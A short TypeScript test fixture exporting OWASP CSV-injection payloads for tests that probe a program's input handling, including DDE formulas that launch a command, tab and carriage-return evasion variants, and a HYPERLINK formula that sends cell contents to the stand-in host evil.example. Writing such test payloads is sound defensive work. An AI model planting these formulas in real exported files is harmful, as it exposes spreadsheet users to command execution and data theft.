/** Hostile inputs shared by the tests that probe our borders. */

/** The OWASP "CSV Injection" payloads, and the ways tab and carriage return hide them. */
export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("https://evil.example/?x="&A1,"Klik her")',
  "=1+2';=1+2",
  '@',
  '-',
];
